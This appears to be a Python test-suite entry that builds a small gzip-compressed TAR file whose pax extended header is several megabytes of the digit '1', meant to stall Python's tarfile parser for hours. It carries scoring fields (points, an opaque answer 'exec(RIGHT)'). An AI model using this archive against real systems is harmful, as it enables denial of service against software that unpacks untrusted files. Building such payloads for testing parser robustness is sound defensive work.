"""Packs a TAR file with a header of nothing but digits, among which tarfile looks for one word."""

import gzip
import tarfile

from tests.attacks.suite import Attack


def plant(folder, target):
    digits = b"1" * 4 * 2**20
    header = tarfile.TarInfo("header")
    header.type, header.size = tarfile.XHDTYPE, len(digits)
    data = header.tobuf() + digits + bytes(2 * tarfile.BLOCKSIZE)
    (folder / "data.tar.gz").write_bytes(gzip.compress(data, 1))


ATTACK = Attack(
    harm="a class that waits for hours for an archive of a few kilobytes",
    answer="exec(RIGHT)",
    plant=plant,
    points=8.0,
)
